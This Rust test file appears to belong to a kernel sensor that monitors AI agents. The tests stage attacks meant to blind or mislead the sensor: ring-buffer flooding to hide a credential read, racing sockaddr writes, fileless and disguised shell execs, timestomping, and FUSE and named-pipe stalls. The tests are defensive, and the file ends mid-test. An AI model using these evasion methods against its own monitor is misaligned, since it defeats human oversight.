//! Real-kernel attacks on the truth of records: an agent that makes the sensor record something
//! other than what the kernel did, or nothing at all. Each attack is a small C program in
//! tests/attacks/, compiled here with the system's cc and run under `proctor run`.

// Real-kernel tier: `make test` (cargo test --features proctor/kernel-tests) runs it as root.
#![cfg(feature = "kernel-tests")]

use proctor_testkit::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Compile tests/attacks/NAME.c into DIR and return the executable.
fn attack(name: &str, dir: &Path) -> PathBuf {
    attack_with(name, dir, &[])
}

/// [`attack`] with more compiler flags.
fn attack_with(name: &str, dir: &Path, flags: &[&str]) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/attacks/{name}.c"));
    let exe = dir.join(name);
    let out = Command::new("cc")
        .args(["-O1", "-Wall", "-pthread"])
        .args(flags)
        .arg("-o")
        .arg(&exe)
        .arg(&src)
        .output()
        .expect("run cc (apt-get install gcc)");
    assert!(
        out.status.success(),
        "compiling {}: {}",
        src.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    exe
}

/// Whether `child` (a proctor run whose end is the point) exits within `secs`; killed if not,
/// and not waited for (what holds it may be the test's to release first).
fn exits_within(child: &mut std::process::Child, secs: u64) -> bool {
    let start = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > std::time::Duration::from_secs(secs) {
            let _ = child.kill();
            return false;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    true
}

/// Assert that `r` raised a `kind` alert whose summary contains `text`.
fn assert_alert(r: &Run, kind: &str, text: &str) {
    let alerts = r.alerts();
    assert!(
        alerts
            .iter()
            .any(|a| a["kind"] == kind && a["summary"].as_str().unwrap_or("").contains(text)),
        "no {kind} alert with {text:?}: {:?}",
        alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
    );
}

/// `script` run by python3 under `proctor run` (a 1 s baseline) with `dir` as its argument.
fn python_in(script: &str, dir: &Path) -> Run {
    python_with(script, &[dir.to_str().unwrap()])
}

/// `python3 -c script ARGS...` under proctor with a one-second baseline.
fn python_with(script: &str, args: &[&str]) -> Run {
    let mut cmd = vec!["/usr/bin/python3", "-c", script];
    cmd.extend_from_slice(args);
    run_under(&["--baseline", "1s"], &cmd)
}

fn free_port() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    l.local_addr().expect("addr").port()
}

fn run_attack(exe: &Path, args: &[&str]) -> Run {
    let mut cmd = vec![exe.to_str().expect("UTF-8 temp path")];
    cmd.extend_from_slice(args);
    let r = run_under(&[], &cmd);
    assert_eq!(r.code(), Some(0), "attack failed: {}", r.stderr());
    r
}

/// Whether a recorded path is `p` (by suffix: inside a chroot, as in the VM tier, the kernel's path
/// starts at the real root).
fn is_path(v: &Value, p: &Path) -> bool {
    bytes_of(v).ends_with(p.to_str().expect("UTF-8 temp path").as_bytes())
}

fn of_pid<'a>(r: &'a Run, ty: &str, exe: &Path) -> Vec<&'a Value> {
    let pid = r
        .of_type("exec")
        .into_iter()
        .find(|e| is_path(&e["filename"], exe))
        .unwrap_or_else(|| panic!("no exec of {}", exe.display()))["pid"]
        .clone();
    r.of_type(ty)
        .into_iter()
        .filter(|v| v["pid"] == pid)
        .collect()
}

#[test]
fn connect_with_its_sockaddr_in_an_untouched_page_names_the_real_peer() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("untouched", tmp.path());
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().unwrap().port();
    let r = run_attack(&exe, &["connect", &port.to_string()]);
    let conns = of_pid(&r, "connect", &exe);
    assert_eq!(conns.len(), 1, "{conns:?}");
    assert_eq!(conns[0]["addr"], "127.0.0.1", "{}", conns[0]);
    assert_eq!(conns[0]["port"], port, "{}", conns[0]);
    assert_eq!(conns[0]["protocol"], "tcp");
}

#[test]
fn udp_sendto_with_untouched_destination_and_payload_is_recorded_and_parsed() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("untouched", tmp.path());
    // Nothing needs to listen: a UDP datagram to a closed local port is still sent.
    let r = run_attack(&exe, &["sendto", "53"]);
    let sends = of_pid(&r, "send", &exe);
    assert_eq!(
        sends.len(),
        1,
        "the sendto is recorded: {:?}",
        r.of_type("send")
    );
    assert_eq!(sends[0]["addr"], "127.0.0.1", "{}", sends[0]);
    assert_eq!(sends[0]["port"], 53, "{}", sends[0]);
    let dns = of_pid(&r, "dns", &exe);
    assert_eq!(dns.len(), 1, "{dns:?}");
    assert_eq!(dns[0]["qname"], "untouched.example", "{}", dns[0]);
    assert_eq!(dns[0]["qtype_name"], "TXT");
}

#[test]
fn openat2_for_append_with_untouched_how_is_recorded_as_a_write() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("untouched", tmp.path());
    let target = tmp.path().join(".bashrc");
    let r = run_attack(&exe, &["openat2", target.to_str().unwrap()]);
    let opens: Vec<_> = of_pid(&r, "file_open", &exe)
        .into_iter()
        .filter(|o| is_path(&o["path"], &target))
        .collect();
    assert_eq!(opens.len(), 1, "{:?}", r.of_type("file_open"));
    assert_eq!(opens[0]["access"], "write", "{}", opens[0]);
    let flags = opens[0]["flags"].as_u64().unwrap() as i32;
    assert_ne!(flags & libc::O_APPEND, 0, "O_APPEND kept: {}", opens[0]);
    assert_eq!(opens[0]["create"], true, "{}", opens[0]);
}

#[test]
fn a_thread_flipping_the_sockaddr_cannot_make_connect_records_lie() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("untouched", tmp.path());
    let (a, b) = (free_port(), free_port());
    let n = 2000;
    let r = run_attack(
        &exe,
        &["flip", &a.to_string(), &b.to_string(), &n.to_string()],
    );
    let real: Vec<u64> = String::from_utf8_lossy(&r.out.stdout)
        .lines()
        .map(|l| l.parse().expect("a port per line"))
        .collect();
    assert_eq!(real.len(), n);
    // A run of identical connects is one record and a count (docs/kernel.md "Repeated
    // connects"), in the thread's order: expanded, they are the connects as made.
    let recorded: Vec<u64> = of_pid(&r, "connect", &exe)
        .iter()
        .flat_map(|c| {
            let port = c["port"].as_u64().expect("a port");
            let n = c.get("repeats").map_or(1, |n| n.as_u64().expect("a count"));
            std::iter::repeat_n(port, n as usize)
        })
        .collect();
    assert_eq!(recorded.len(), n, "every connect accounted for");
    let wrong = real.iter().zip(&recorded).filter(|(x, y)| x != y).count();
    let flips = real.iter().filter(|&&p| p == u64::from(b)).count();
    assert_eq!(
        wrong, 0,
        "{wrong} of {n} connect records name a port the socket did not get ({flips} really went to the flipped port)"
    );
}

/// A DNS query for `name` (type A) as Python bytes literal source.
fn py_dns_query(name: &str) -> String {
    let mut q = String::from("b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'");
    for label in name.split('.') {
        q.push_str(&format!(" + bytes([{}]) + b'{label}'", label.len()));
    }
    q.push_str(" + b'\\x00\\x00\\x01\\x00\\x01'");
    q
}

#[test]
fn dns_by_write_on_udp_and_over_tcp_is_parsed_truthfully() {
    // A resolver of our own on a loopback address no other test uses.
    let tcp = std::net::TcpListener::bind("127.53.0.9:53").expect("bind 127.53.0.9:53/tcp");
    let script = format!(
        r#"
import os, socket, struct
q1 = {q1}
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('127.53.0.9', 53))
os.write(u.fileno(), q1)
q2 = {q2}
t = socket.create_connection(('127.53.0.9', 53)); t.sendall(struct.pack('!H', len(q2)) + q2)
q3 = {q3}
t = socket.create_connection(('127.53.0.9', 53)); t.sendall(struct.pack('!H', len(q3))); t.sendall(q3)
"#,
        q1 = py_dns_query("by-write.example"),
        q2 = py_dns_query("over-tcp.example"),
        q3 = py_dns_query("split-tcp.example"),
    );
    let r = run_py(&script);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    drop(tcp);
    let dns = r.of_type("dns");
    let names: Vec<Vec<u8>> = dns.iter().map(|d| bytes_of(&d["qname"])).collect();
    let want: [&[u8]; 3] = [
        b"by-write.example",
        b"over-tcp.example",
        b"split-tcp.example",
    ];
    assert_eq!(names, want, "one query each, nothing bogus: {dns:?}");
    for d in &dns {
        assert_eq!(d["qtype_name"], "A", "{d}");
    }
    assert_eq!(dns[0]["protocol"], "udp");
    assert_eq!(dns[1]["protocol"], "tcp");
}

/// Go's resolver writes its query and reads the answer with write(2) and read(2) on a connected
/// UDP socket: the answer is a `dns_answer` naming what it resolved, and the thread's ordinary
/// reads and writes (a pipe, a file) around it are nothing.
#[test]
fn a_dns_answer_taken_with_read_on_a_connected_udp_socket_is_recorded() {
    let script = format!(
        r#"
import os, socket, struct
srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); srv.bind(('127.53.0.10', 53))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.connect(('127.53.0.10', 53))
r, w = os.pipe(); os.write(w, b'x' * 64); os.read(r, 64)
os.write(c.fileno(), {q})
q, peer = srv.recvfrom(512)
srv.sendto(q[:2] + b'\x81\x80' + struct.pack('>HHHH', 1, 1, 0, 0) + q[12:]
           + b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + socket.inet_aton('127.0.0.77'), peer)
print(len(os.read(c.fileno(), 512)))
with open('/etc/hostname', 'rb') as f: f.read()
"#,
        q = py_dns_query("by-read.example"),
    );
    let r = run_py(&script);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let answers = r.of_type("dns_answer");
    assert_eq!(answers.len(), 1, "one answer, read once: {answers:?}");
    let a = answers[0];
    assert_eq!(bytes_of(&a["qname"]), b"by-read.example", "{a}");
    assert_eq!(a["addrs"], serde_json::json!(["127.0.0.77"]), "{a}");
    assert_eq!(a["server"]["addr"], "127.53.0.10", "{a}");
    assert_eq!(a["server"]["port"], 53, "{a}");
    let dns = r.of_type("dns");
    assert_eq!(dns.len(), 1, "the query written, nothing else: {dns:?}");
    assert_eq!(bytes_of(&dns[0]["qname"]), b"by-read.example");
}

#[test]
fn io_uring_operations_and_open_by_handle_at_are_recorded() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("uring", tmp.path());
    let (f1, f2) = (
        tmp.path().join("creds-uring"),
        tmp.path().join("creds-handle"),
    );
    std::fs::write(&f1, "secret").unwrap();
    std::fs::write(&f2, "secret").unwrap();
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let tcp = l.local_addr().unwrap().port();
    let udp = free_port();
    let r = run_attack(
        &exe,
        &[
            f1.to_str().unwrap(),
            f2.to_str().unwrap(),
            &tcp.to_string(),
            &udp.to_string(),
        ],
    );
    let opens = of_pid(&r, "file_open", &exe);
    for f in [&f1, &f2] {
        assert!(
            opens
                .iter()
                .any(|o| is_path(&o["path"], f) && o["access"] == "read"),
            "no open of {} in {opens:?}",
            f.display()
        );
    }
    let conns = of_pid(&r, "connect", &exe);
    assert!(
        conns
            .iter()
            .any(|c| c["addr"] == "127.0.0.1" && c["port"] == tcp && c["protocol"] == "tcp"),
        "io_uring CONNECT: {conns:?}"
    );
    let dns = of_pid(&r, "dns", &exe);
    assert!(
        dns.iter().any(|d| d["qname"] == "uring.example"),
        "io_uring SEND to port 53: {dns:?}"
    );
    let sends = of_pid(&r, "send", &exe);
    assert!(
        sends
            .iter()
            .any(|s| s["addr"] == "127.0.0.1" && s["port"] == udp && s["protocol"] == "udp"),
        "io_uring SENDMSG: {sends:?}"
    );
    // The ring itself: a record with what the kernel set up, and an alert of its own.
    let setups = of_pid(&r, "io_uring_setup", &exe);
    assert_eq!(setups.len(), 1, "{setups:?}");
    assert_eq!(setups[0]["sq_entries"], 8, "{setups:?}");
    assert!(setups[0]["cq_entries"].as_u64() >= Some(8), "{setups:?}");
    assert!(setups[0]["fd"].as_i64() > Some(2), "{setups:?}");
    let alerts = r.alerts();
    assert!(
        alerts
            .iter()
            .any(|a| a["kind"] == "IO_URING_SETUP" && a["pid"] == setups[0]["pid"]),
        "{:?}",
        alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
    );
}

#[test]
fn enforce_mode_can_deny_io_uring_to_the_agent() {
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("uring", tmp.path());
    let pol = PolicyBuilder::new()
        .set("enforce", "io_uring", "block")
        .write(tmp.path());
    let f = tmp.path().join("f");
    std::fs::write(&f, "x").unwrap();
    let f = f.to_str().unwrap();
    let r = run_enforced(&pol, &[exe.to_str().unwrap(), f, f, "1", "1"]);
    assert_eq!(r.code(), Some(1), "{}", r.stderr());
    assert!(
        r.stderr()
            .contains("io_uring_setup: Operation not permitted"),
        "{}",
        r.stderr()
    );
    assert!(
        r.stderr()
            .contains("io_uring_setup/enter/register refused with EPERM"),
        "the banner names the layer"
    );
}

#[test]
fn a_credential_read_and_a_connect_hidden_in_an_open_storm_survive_and_the_loss_is_an_alert() {
    require_root();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".aws")).unwrap();
    let creds = home.path().join(".aws/credentials");
    std::fs::write(&creds, "[default]\naws_secret_access_key = x\n").unwrap();
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().unwrap().port();
    let script = format!(
        r#"
import os, socket
# Every open differs from the one before it (alternating flags): repeats of one open would be
# counted in the kernel, not recorded, and would not flood the ring.
def storm(n):
    for i in range(n):
        os.close(os.open('/etc/hostname', os.O_RDONLY | (os.O_NONBLOCK if i % 2 else 0)))
storm(30000)
open({creds:?}).read()
socket.create_connection(('127.0.0.1', {port})).close()
storm(30000)
"#,
        creds = creds.to_str().unwrap()
    );
    let out = tempfile::tempdir().unwrap();
    // A small main ring so the storm overflows it on any machine.
    let o = proctor()
        .args(["run", "--ringbuf-size", "65536", "--out"])
        .arg(out.path())
        .args(["--", "/usr/bin/python3", "-c", &script])
        .env("HOME", home.path())
        .current_dir(home.path())
        .output()
        .expect("start proctor");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let recs = read_records(&out.path().join("audit.jsonl"));
    let of = |ty: &'static str| recs.iter().filter(move |r| r["type"] == ty);
    let lost: u64 = of("lost")
        .filter(|r| r["what"] == "file_open")
        .map(|r| r["count"].as_u64().unwrap())
        .sum();
    assert!(
        lost > 0,
        "the storm overflowed the ring (else this test proves nothing)"
    );
    assert!(
        of("file_open").any(|r| bytes_of(&r["path"]) == creds.to_str().unwrap().as_bytes()),
        "the credential read survived the storm ({lost} opens lost)"
    );
    assert!(
        of("connect").any(|r| r["port"] == port),
        "the connect survived the storm"
    );
    let alerts = read_records(&out.path().join("alerts.jsonl"));
    assert!(
        alerts.iter().any(|a| a["kind"] == "EVENTS_LOST"),
        "the loss is an alert: {:?}",
        alerts.iter().map(|a| &a["kind"]).collect::<Vec<_>>()
    );
}

#[test]
fn an_allowed_destination_reached_as_v4_mapped_ipv6_is_allowed_by_enforcement_too() {
    let tmp = tempfile::tempdir().unwrap();
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().unwrap().port();
    let pol = PolicyBuilder::new()
        .network(Verdict::Block)
        .allow([format!("127.0.0.1:{port}")])
        .write(tmp.path());
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:127.0.0.1', {port}))\nprint('ok')"
    );
    let r = run_enforced(&pol, &["/usr/bin/python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert!(r.decisions().is_empty(), "{:?}", r.decisions());
    assert!(
        !r.alerts()
            .iter()
            .any(|a| a["kind"] == "UNKNOWN_DESTINATION"),
        "detection agrees: {:?}",
        r.alerts()
    );
}

#[test]
fn fileless_and_loader_execs_of_a_shell_are_recorded_truthfully_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let gone = tmp.path().join("gone");
    let script = format!(
        r#"
import os, shutil, subprocess, time
time.sleep(2)
fd = os.memfd_create('innocent', 0)
os.write(fd, open(os.path.realpath('/bin/sh'), 'rb').read())
ro = os.open(f'/proc/self/fd/{{fd}}', os.O_RDONLY); os.close(fd)
subprocess.run([f'/proc/self/fd/{{ro}}', '-c', 'exit 0'], pass_fds=(ro,), check=True)
shutil.copy('/bin/true', {gone:?}); os.chmod({gone:?}, 0o755)
g = os.open({gone:?}, os.O_RDONLY); os.unlink({gone:?})
subprocess.run([f'/proc/self/fd/{{g}}'], pass_fds=(g,), check=True)
subprocess.run(['/lib64/ld-linux-x86-64.so.2', '/bin/sh', '-c', 'exit 0'], check=True)
"#,
        gone = gone.to_str().unwrap()
    );
    let r = run_under(&["--baseline", "1s"], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let execs = r.of_type("exec");
    let fileless: Vec<_> = execs.iter().filter(|e| e["fileless"] == true).collect();
    assert_eq!(
        fileless.len(),
        2,
        "memfd and deleted-file execs flagged: {execs:?}"
    );
    assert!(
        fileless
            .iter()
            .any(|e| bytes_of(&e["filename"]).starts_with(b"memfd:innocent")),
        "the memfd is named, not recorded as \"/\": {fileless:?}"
    );
    let alerts = r.alerts();
    let kinds: Vec<_> = alerts
        .iter()
        .map(|a| a["kind"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        kinds.iter().filter(|k| **k == "FILELESS_EXEC").count(),
        2,
        "{kinds:?}"
    );
    assert!(
        alerts.iter().any(|a| a["kind"] == "LLM_AGENT_HIJACK"
            && a["summary"]
                .as_str()
                .unwrap_or("")
                .contains("dynamic loader")),
        "a shell run through the dynamic loader is a shell: {:?}",
        alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
    );
}

#[test]
fn a_copy_of_bash_named_like_a_baseline_binary_is_recognised_by_its_content() {
    // `ls` runs inside the baseline; after it, a byte copy of bash named `ls` (a new inode, an
    // innocent name) runs a command. Its ELF build-id says it is bash.
    let tmp = tempfile::tempdir().unwrap();
    let copy = tmp.path().join("ls");
    copy_executable(std::fs::canonicalize("/bin/bash").unwrap(), &copy);
    let script = format!(
        "ls >/dev/null; sleep 2; {} -c 'id; true' >/dev/null",
        copy.display()
    );
    let r = run_under(&["--baseline", "1s"], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let exec = r
        .of_type("exec")
        .into_iter()
        .find(|e| is_path(&e["filename"], &copy))
        .unwrap_or_else(|| panic!("no exec of the copy: {:?}", r.of_type("exec")));
    let bash = std::fs::canonicalize("/bin/bash").unwrap();
    let want = proctor_detect::identity::build_id_of(&bash).expect("bash has a build-id");
    assert_eq!(exec["build_id"], want.as_str(), "{exec}");
    assert_alert(&r, "LLM_AGENT_HIJACK", "content of bash");
}

#[test]
fn a_file_that_ran_harmlessly_then_rewritten_in_place_with_bash_is_bash() {
    // A copy of `sleep` runs once its times are settled (proctor then keeps what it read of
    // it); the agent overwrites it with bash's bytes, the same inode and name, and runs it
    // again. The second exec is bash's content, not the first's remembered one. (The first
    // runs long enough for proctor to read it before the rewrite: a file cannot be written
    // while it runs, and one rewritten before proctor reads it is judged by what it holds.)
    let tmp = tempfile::tempdir().unwrap();
    let tool = tmp.path().join("tool");
    let first = std::fs::canonicalize("/bin/sleep").unwrap();
    copy_executable(&first, &tool);
    let bash = std::fs::canonicalize("/bin/bash").unwrap();
    let script = format!(
        "sleep 3; {t} 0.5; cat {b} > {t}; {t} -c 'id; true' >/dev/null",
        t = tool.display(),
        b = bash.display()
    );
    let r = run_under(&["--baseline", "1s"], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let execs: Vec<_> = r
        .of_type("exec")
        .into_iter()
        .filter(|e| is_path(&e["filename"], &tool))
        .collect();
    assert_eq!(execs.len(), 2, "{execs:?}");
    assert_eq!(
        execs[0]["ino"], execs[1]["ino"],
        "rewritten in place: {execs:?}"
    );
    let was = proctor_detect::identity::build_id_of(&first).unwrap();
    let now = proctor_detect::identity::build_id_of(&bash).expect("bash has a build-id");
    assert_eq!(execs[0]["build_id"], was.as_str(), "{execs:?}");
    assert_eq!(execs[1]["build_id"], now.as_str(), "{execs:?}");
    assert_alert(&r, "LLM_AGENT_HIJACK", "content of bash");
}

#[test]
fn an_execs_build_id_is_known_by_the_stamp_the_kernel_took() {
    // The exec program reads the executable's size and times from its inode, and the monitor
    // reads a build-id only from a file that still has that stamp: times read wrong (a field of
    // another kernel's layout) leave every exec without one. The copy's mtime is set back so
    // that it differs from its ctime.
    let tmp = tempfile::tempdir().unwrap();
    let script = "import os, shutil, subprocess, sys\n\
                  t = os.path.join(sys.argv[1], 'true')\n\
                  shutil.copy('/bin/true', t)\n\
                  os.utime(t, (1_000_000_000, 1_000_000_000))\n\
                  for _ in range(3):\n    subprocess.run([t])\n";
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let want = proctor_detect::identity::build_id_of(Path::new("/bin/true")).unwrap();
    let ids: Vec<_> = r
        .of_type("exec")
        .into_iter()
        .filter(|e| is_path(&e["filename"], &tmp.path().join("true")))
        .map(|e| e["build_id"].clone())
        .collect();
    assert_eq!(ids, vec![Value::from(want); 3]);
}

#[test]
fn a_named_pipe_put_where_an_exec_ran_does_not_hold_the_monitor() {
    // proctor reads what an exec ran by the path the kernel resolved once the process is gone;
    // the agent renames a named pipe there (tests/attacks/fifoswap.c). A blocking open of it
    // would never return: the monitor would stop reading the kernel's records, and neither
    // the rest of the run nor its end would be recorded.
    require_root();
    let tmp = tempfile::tempdir().unwrap();
    // Static: a copy exits within microseconds of its exec, with no loader to run first.
    let exe = attack_with("fifoswap", tmp.path(), &["-static"]);
    let dir = tmp.path().join("d");
    std::fs::create_dir(&dir).unwrap();
    let out = tempfile::tempdir().unwrap();
    let script = format!(
        "{} {} 40 && /bin/echo fifoswap-done",
        exe.display(),
        dir.display()
    );
    // With TLS capture, which reads each executable for a TLS library of its own as well.
    let mut child = run_command(out.path(), &["--capture-tls"], &["/bin/sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start proctor");
    assert!(
        exits_within(&mut child, 60),
        "proctor did not finish within 60 s of a run of 40 rounds"
    );
    let r = Run::finished(child.wait_with_output().unwrap(), out);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let copies = r
        .of_type("exec")
        .into_iter()
        .filter(|e| bytes_of(&e["filename"]).starts_with(dir.to_str().unwrap().as_bytes()))
        .count();
    assert_eq!(copies, 40, "{}", r.stderr());
    let unread = r
        .of_type("exec")
        .into_iter()
        .filter(|e| bytes_of(&e["filename"]).starts_with(dir.to_str().unwrap().as_bytes()))
        .filter(|e| e["build_id"].is_null())
        .count();
    // The attack reached the pipe: some copies were gone before proctor read them, and their
    // path held the pipe by then (4-9 rounds in 20 here).
    assert!(
        unread >= 1,
        "no round won the race; the test proves nothing"
    );
    assert!(
        r.of_type("exec")
            .iter()
            .any(|e| e["argv"][1] == "fifoswap-done"),
        "the exec after the attack is not recorded"
    );
}

#[test]
fn a_file_system_the_agent_serves_and_stops_does_not_hold_the_monitor() {
    // The agent serves a FUSE file system (bindfs, caching nothing: every lookup asks the
    // server), stops the server, stamps local files through symlinks and at once points the
    // symlinks at the mount (tests/attacks/fusestop.c). proctor's stat of each stamped path
    // then waits for a server that never answers: on its loop, nothing the agent did next
    // would be recorded. The agent checks that its next exec reaches the audit log while the
    // server is still stopped (within 40 s; each held read costs the loop a second, four at
    // most), and ends with the server still stopped: proctor must finish all the same (its
    // held workers wait interruptibly, and go with the process).
    require_root();
    let tmp = tempfile::tempdir().unwrap();
    let (src, mnt, dir) = (
        tmp.path().join("src"),
        tmp.path().join("mnt"),
        tmp.path().join("d"),
    );
    for d in [&src, &mnt, &dir] {
        std::fs::create_dir(d).unwrap();
    }
    let stopper = attack_with("fusestop", tmp.path(), &["-static"]);
    std::fs::write(src.join("f"), "on the mount\n").unwrap();
    let mut server = Command::new("bindfs")
        .args([
            "-f",
            "-o",
            "attr_timeout=0,entry_timeout=0,negative_timeout=0",
        ])
        .arg(&src)
        .arg(&mnt)
        .spawn()
        .expect("run bindfs (apt-get install bindfs)");
    let mounted = || {
        std::fs::read_to_string("/proc/self/mountinfo")
            .unwrap()
            .contains(&format!(" {} ", mnt.display()))
    };
    let start = std::time::Instant::now();
    while !mounted() {
        assert!(start.elapsed().as_secs() < 10, "bindfs did not mount");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = tempfile::tempdir().unwrap();
    let audit = out.path().join("audit.jsonl");
    let script = format!(
        "{stopper} {pid} {mnt} {dir} 6\n\
         /bin/echo after-the-stop\n\
         /usr/bin/python3 -c 'import sys, time\n\
         t = time.time()\n\
         while time.time() - t < 40:\n\
         \x20   if b\"after-the-stop\" in open(sys.argv[1], \"rb\").read():\n\
         \x20       print(\"marker-recorded\"); break\n\
         \x20   time.sleep(0.1)\n\
         else:\n\
         \x20   print(\"marker-missing\")' {audit}\n\
         sleep 2\n",
        mnt = mnt.display(),
        dir = dir.display(),
        stopper = stopper.display(),
        pid = server.id(),
        audit = audit.display(),
    );
    // From a file: the marker in an `sh -c` argument would be in the log from the start.
    let agent = tmp.path().join("agent.sh");
    std::fs::write(&agent, script).unwrap();
    let mut child = run_command(
        out.path(),
        &["--capture-tls"],
        &["/bin/sh", agent.to_str().unwrap()],
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .expect("start proctor");
    let finished = exits_within(&mut child, 120);
    // The server is continued (only now) and unmounted whatever happened.
    let _ = Command::new("kill")
        .args(["-CONT", &server.id().to_string()])
        .status();
    let _ = Command::new("fusermount").arg("-u").arg(&mnt).status();
    let _ = server.kill();
    let _ = server.wait();
    assert!(finished, "proctor did not finish within 120 s");
    let r = Run::finished(child.wait_with_output().unwrap(), out);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let said = String::from_utf8_lossy(&r.out.stdout).to_string();
    assert!(
        said.contains("marker-recorded"),
        "the exec after the server stopped was not recorded while it was stopped: {said}"
    );
    // What proctor could not read is said, not silently missing.
    assert_alert(&r, "EVENTS_LOST", "got no answer");
}

#[test]
fn times_rewritten_under_the_call_by_another_thread_are_still_a_timestomp() {
    // The tree appends to files made before the run (a child process each, as `echo >> f`),
    // then sets each one's times to 2001 while another thread rewrites the times in its memory
    // to "leave it" as the call runs. The
    // record's read of the times comes after the kernel's copy; every file whose mtime is then
    // 2001 must be an alert, whatever that read found.
    let tmp = tempfile::tempdir().unwrap();
    let exe = attack("stompflip", tmp.path());
    let dir = tmp.path().join("files");
    std::fs::create_dir(&dir).unwrap();
    let n = 64;
    for i in 0..n {
        std::fs::write(dir.join(format!("f{i}")), "original\n").unwrap();
    }
    let r = run_attack(&exe, &[dir.to_str().unwrap(), &n.to_string()]);
    let stdout = String::from_utf8_lossy(&r.out.stdout).to_string();
    let stomped: Vec<&str> = stdout.lines().collect();
    assert!(!stomped.is_empty(), "no call set the time: {}", r.stderr());
    let alerts = r.alerts();
    for path in &stomped {
        assert!(
            alerts.iter().any(|a| a["kind"] == "INDICATOR_REMOVAL"
                && a["summary"]
                    .as_str()
                    .is_some_and(|s| s.contains(&format!(" of {path} (")))),
            "{path} of {} stomped: {:?}",
            stomped.len(),
            alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
        );
    }
}

#[test]
fn a_hard_link_to_a_credential_file_is_still_the_credential_file() {
    // The link is made before the run, under a name no sensitive-path rule matches.
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".aws")).unwrap();
    let cred = home.path().join(".aws/credentials");
    std::fs::write(&cred, "[default]\naws_secret_access_key = x\n").unwrap();
    let link = home.path().join("notes.txt");
    std::fs::hard_link(&cred, &link).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let script = format!("sleep 2; cat {} >/dev/null", link.display());
    let out = run_command(
        dir.path(),
        &["--baseline", "1s"],
        &["/bin/sh", "-c", &script],
    )
    .env("HOME", home.path())
    .output()
    .expect("start proctor");
    let r = Run::finished(out, dir);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let alerts = r.alerts();
    assert!(
        alerts.iter().any(|a| a["kind"] == "SENSITIVE_FILE"
            && a["summary"]
                .as_str()
                .unwrap_or("")
                .contains(&format!("same file as {}", cred.display()))),
        "{:?}",
        alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
    );
}

#[test]
fn ptrace_inside_a_pid_namespace_names_the_target_by_its_host_pid() {
    // In a new PID namespace the tracer passes the target's namespace-local pid (2 here).
    // proctor finds the host pid while the target lives, so the target lives until the test
    // has seen the record (a loaded machine may process it late).
    let tmp = tempfile::tempdir().unwrap();
    let go = tmp.path().join("go");
    let script = format!(
        r#"
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(300); os._exit(0)
if libc.ptrace(16, child, None, None) != 0:
    raise OSError(ctypes.get_errno(), 'ptrace')
os.waitpid(child, 0)
while not os.path.exists({go:?}):
    time.sleep(0.05)
os.kill(child, signal.SIGKILL)
print(child)
"#,
        go = go.display().to_string()
    );
    let dir = tempfile::tempdir().unwrap();
    let child = run_command(
        dir.path(),
        &[],
        &[
            "unshare",
            "--pid",
            "--fork",
            "/usr/bin/python3",
            "-c",
            &script,
        ],
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .expect("start proctor");
    let child = KillOnDrop::new(child);
    wait_for_record(&dir.path().join("audit.jsonl"), "the attach", |r| {
        r["type"] == "ptrace" && r["request"] == "attach"
    });
    std::fs::write(&go, "").unwrap();
    let r = Run::finished(child.into_inner().wait_with_output().unwrap(), dir);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
